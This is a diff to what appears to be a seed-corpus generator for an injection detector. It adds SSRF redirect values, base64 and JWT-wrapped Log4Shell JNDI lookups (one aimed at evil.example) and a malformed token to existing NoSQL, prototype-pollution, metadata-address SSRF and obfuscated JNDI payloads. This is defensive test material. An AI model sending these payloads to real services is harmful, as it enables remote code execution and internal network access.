@@ -387,7 +387,13 @@ for i, (where, v) in enumerate([
         (5, b'{"user":{"$ne":null},"$where":"sleep(1)","constructor":{"prototype":{"a":1}}}'),
         (2, b"user[$regex]=.*&__proto__[admin]=1&x[constructor][prototype][y]=1"),
         (2, b"u=http://169.254.169.254.nip.io/&v=//[fd00:ec2::254]/&w=0xa9fea9fe"),
-        (3, b"${${lower:j}${upper:\xc4\xb1}ndi:ldap://x/a}${env:A:-j}${sys:x}")]):
+        (3, b"${${lower:j}${upper:\xc4\xb1}ndi:ldap://x/a}${env:A:-j}${sys:x}"),
+        # names and wrappers (payload_ssrf.c, payload_wrap.c): a redirect_uri,
+        # base64 text, a JWT whose kid holds a lookup, one with a bad segment
+        (2, b"redirect_uri=http%3A%2F%2F127.0.0.1%3A8080%2F&next=a%3Fredirect_uri%3Dhttp://10.0.0.1/"),
+        (2, b"d=JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0%3D&e=eyIkbmUiOm51bGx9"),
+        (3, b"Bearer eyJhbGciOiAiSFMyNTYiLCAia2lkIjogIiR7am5kaTpsZGFwOi8veC9hfSJ9.eyJzdWIiOiAiMSJ9.c2ln"),
+        (3, b"eyJ7Ijoi.eyJcdTAwMjIiOiJcIiJ9.")]):
     put("detect", "data-%d" % i, bytes([where - 1]) + v)
 # the generated SQL injection and XSS tables (tools/gen-sqli-xss.py) and
 # the tricky benign values: every context, technique and encoding the two
